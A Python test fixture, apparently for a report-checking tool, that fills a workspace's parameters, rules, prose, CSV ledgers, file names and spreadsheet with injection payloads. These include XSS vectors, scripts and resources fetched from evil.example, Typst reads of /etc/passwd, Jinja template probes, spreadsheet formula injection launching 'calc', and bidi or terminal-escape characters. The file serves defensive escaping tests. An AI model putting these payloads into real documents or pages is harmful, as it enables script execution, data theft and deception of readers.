"""Texts that would act if taken for more than text, and a bureau all of whose files have them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import yaml

from tests.conftest import EXAMPLE, YEAR, copy_workspace
from tests.ledgers.samples import write_csv
from tests.windows import AS_ON_WINDOWS

# 〇 stands for a mark that is another in each: where it can be read, the text around it can.
HTML = (
    "<script>ran()</script>〇",
    "<SCRIPT SRC=https://evil.example/〇.js></SCRIPT>〇",
    "<scr<script>ipt>ran()</scr</script>ipt>〇",
    "<img src=x onerror=ran()>〇",
    "<img src='https://evil.example/〇.png'>〇",
    "<img srcset='https://evil.example/〇.png 2x' src=data:,>〇",
    "<body onload=ran()>〇</body>",
    "<details open ontoggle=ran()>〇</details>",
    "<input autofocus onfocus=ran() value=〇>〇",
    "<marquee onstart=ran()>〇</marquee>",
    "<video autoplay src=https://evil.example/〇.mp4 onerror=ran()></video>〇",
    "<iframe src='javascript:parent.ran()'></iframe>〇",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>〇",
    "<object data='data:text/html,<script>ran()</script>'></object>〇",
    "<embed src='https://evil.example/〇.swf'>〇",
    "<base href='https://evil.example/〇/'>〇",
    "<link rel=stylesheet href=https://evil.example/〇.css>〇",
    "<meta http-equiv=refresh content='0;url=https://evil.example/〇'>〇",
    "<meta http-equiv=set-cookie content='a=〇'>〇",
    "<form action=https://evil.example/〇><button autofocus>〇</button></form>",
    "<button formaction=javascript:ran()>〇</button>",
    "<template><p>〇</p></template>〇",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>〇",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table>〇",
    "</style></title></textarea></script><img src=x onerror=ran()>〇",
    "\"><img src=x onerror=ran()>〇",
    "' onmouseover='ran()' x='〇",
    "--><img src=x onerror=ran()><!-- 〇",
    "<!--[if IE]><img src=x onerror=ran()>〇<![endif]-->〇",
    "]]><img src=x onerror=ran()>〇",
    "&lt;script&gt;ran()&lt;/script&gt;〇",
    "&#60;img src=x onerror=ran()&#62;〇",
    "<a href='javascript:ran()'>〇</a>",
    "<a href=' \tjava\tscript:ran()'>〇</a>",
    "<a href='data:text/html,<script>opener.ran()</script>'>〇</a>",
    "<a href='//evil.example/〇' ping='https://evil.example/〇'>〇</a>",
    "<a href='file:///etc/passwd'>〇</a>",
)  # fmt: skip
SCRIPT = (
    "'-ran()-'〇",
    '";ran();//〇',
    "`${ran()}`〇",
    "</script><script>ran()</script>〇",
    "\\u003cscript\\u003eran()〇",
)
CSS = (
    "<style>*{display:none}</style>〇",
    "<style>@import 'https://evil.example/〇.css';</style>〇",
    "<p style='background:url(https://evil.example/〇)'>〇</p>",
    "<p style='display:none'>〇</p>",
    "<p hidden>〇</p>",
    "<p style='position:fixed;inset:0;background:#fff'>〇</p>",
    "<span style='font-size:0'>〇</span>",
    "<span style='color:#fff'>〇</span>",
    "<span style='opacity:0;visibility:hidden'>〇</span>",
    "<p class='watermark official draft'>〇</p>",
)
SVG = (
    "<svg onload=ran()><text y=9>〇</text></svg>",
    "<svg><script>ran()</script></svg>〇",
    "<svg><a xlink:href='javascript:ran()'><text y=9>〇</text></a></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>〇",
    "<svg><use href='https://evil.example/〇.svg#a'/></svg>〇",
    "<svg><foreignObject><body onload=ran()>〇</body></foreignObject></svg>",
    "<svg><image href='https://evil.example/〇.png'/></svg>〇",
)
TYPST = (
    "#read(\"/etc/passwd\")〇",
    "#link(\"https://evil.example/〇\")[〇]",
    "#hide[〇] $x$ @label <label> \\",
    "\"]) #pdf.attach(\"/etc/passwd\")〇",
    "#import \"@preview/cetz:0.3.0\"〇",
)  # fmt: skip
MARKDOWN = (
    "[〇](javascript:ran())",
    "![〇](https://evil.example/〇.png)",
    "[〇]: javascript:ran()",
    "```{=html}\n<script>ran()</script>〇\n```",
    "$$\\href{javascript:ran()}{〇}$$",
)
JINJA = (
    "{{ 7 * 7 }}〇",
    "{{ ''.__class__.__mro__ }}〇",
    "{% for x in [1] %}〇{% endfor %}",
    "{# 〇 #}〇",
)
FORMULAS = (
    "=HYPERLINK(\"https://evil.example/〇\",\"〇\")",
    "=cmd|' /C calc'!A0〇",
    "@SUM(1+1)*cmd|' /C calc'!A0〇",
    "+1-1〇",
    "-2+3+cmd|' /C calc'!A0〇",
    "\t=1+1〇",
)  # fmt: skip
CHARACTERS = (
    "\u202e〇\u202c 100",
    "\u2066\u2067〇\u2069",
    "a\u200b\u2060\ufeff〇",
    "〇\U000e0041\U000e0042",
    "〇\u0000b",
    "\x1b]0;〇\x07\x1b[2J\x1b[31m〇",
    "\x9b31m〇\r\n::error::〇",
)
KINDS = (HTML, SCRIPT, CSS, SVG, TYPST, MARKDOWN, JINJA, FORMULAS, CHARACTERS)
MARKS = [f"记{number:03d}号" for number, _ in enumerate(text for kind in KINDS for text in kind)]
ALL = [
    text.replace("〇", mark)
    for text, mark in zip((text for kind in KINDS for text in kind), MARKS, strict=True)
]
NO_PROSE = {*JINJA}  # in a narrative they are its own language
ADDRESS = "evil.example"
LONGEST_NAME = 200  # characters that the name of a bureau may have


def _short_of(lines: list[str]) -> str:
    """Return a name as long as one may be, of the shortest of the lines of each kind."""
    name = "局"
    for line in sorted(_one_line(lines), key=len):
        if line.isprintable() and len(name) + len(line) <= LONGEST_NAME:
            name += line
    return name


def hostile_workspace(folder: Path) -> Path:
    """Write a bureau that attacks by parameters, ledgers, prose, notes, rules, words and names."""
    copy_workspace(folder)
    data = folder / "data" / EXAMPLE / YEAR
    lines = [text.replace("\0", "") for text in ALL]
    rules = folder / "rules" / "own.yaml"
    rules.parent.mkdir()
    rules.write_text(yaml.safe_dump([*_rules(lines)], allow_unicode=True), "utf-8")
    params = folder / "params" / f"{EXAMPLE}-{YEAR}.yaml"
    settings = yaml.safe_load(params.read_text("utf-8"))
    settings |= {"bureau_name": _short_of(lines), "rules": "rules/own.yaml"}
    params.write_text(yaml.safe_dump(settings, allow_unicode=True), "utf-8")
    (data / "notes.md").write_text("\n\n".join(ALL), "utf-8")
    prose = [
        t
        for t, raw in zip(lines, (x for k in KINDS for x in k), strict=True)
        if raw not in NO_PROSE
    ]
    narrative = (data / "narrative.md").read_text("utf-8")
    heading = narrative.index("# 五、")
    said = "\n\n".join(prose).replace("{", "｛")
    (data / "narrative.md").write_text(
        f"{narrative[:heading]}{said}\n\n{narrative[heading:]}", "utf-8"
    )
    _ledgers(data)
    words = {
        "主动公开信息发布台账": {"words": {"发布渠道": dict.fromkeys(_one_line(lines), "其他")}}
    }
    (data.parent / "mapping.yaml").write_text(yaml.safe_dump(words, allow_unicode=True), "utf-8")
    return folder


def _one_line(texts: list[str]) -> list[str]:
    return [" ".join(text.split()) for text in texts if text.isprintable() and text.strip()]


def _ledgers(data: Path) -> None:
    texts = [
        re.sub("[\0-\x08\x0b-\x1f\x7f-\x9f]", "", text) for text in ALL
    ]  # no table may have them
    known = {*_one_line(texts)}
    published = [[text, "2022-03-01", text if text in known else "其他", text] for text in texts]
    write_csv(data / "publications.csv", [["标题", "发布日期", "发布渠道", "栏目"], *published])
    decided = [[text, "行政处罚", "2022-02-01", text] for text in texts]
    write_csv(
        data / "decisions.csv", [["决定文书号", "决定类别", "决定日期", "是否公开"], *decided]
    )
    head = ["案号", "案件类别", "受理日期", "审结日期", "审理结果", *texts]
    write_csv(
        data / "cases.csv", [head, ["1", "行政复议", "2022-01-04", "2022-02-04", "维持", *texts]]
    )
    for text in ALL:
        name = text.replace("\0", "").replace("/", "／")[:60]
        if AS_ON_WINDOWS:
            name = re.sub(r'[<>:"|?*\\\x01-\x1f]', "＿", name)
        write_csv(data / f"{name}.csv", [["登记编号", "x"], ["1", "2"]])
    book = openpyxl.Workbook()
    for number, text in enumerate(ALL):
        title = "".join(c for c in text if c not in "[]:*?/\\" and c.isprintable())[:24]
        sheet = book.create_sheet(f"{number}{title}")
        sheet["A1"] = "登记编号"
        sheet["A2"] = "".join(c for c in text if c.isprintable())
    book.save(data / "other.xlsx")


def _rules(lines: list[str]) -> Iterator[dict[str, object]]:
    texts = iter(lines)
    for number in range(len(lines) // 6 + 1):
        said = [next(texts, "完") for _ in range(6)]
        yield {
            "id": f"OWN-{number}",
            "title": said[0],
            "explanation": said[1],
            "citation": said[2],
            "severity": "warning",
            "places": ["t2.penalties"],
            "left": ["t2.{place}.decisions"],
            "relation": "<=",
            "right": [],
            "left_text": said[3],
            "right_text": said[4],
            "suggestion": said[5],
        }
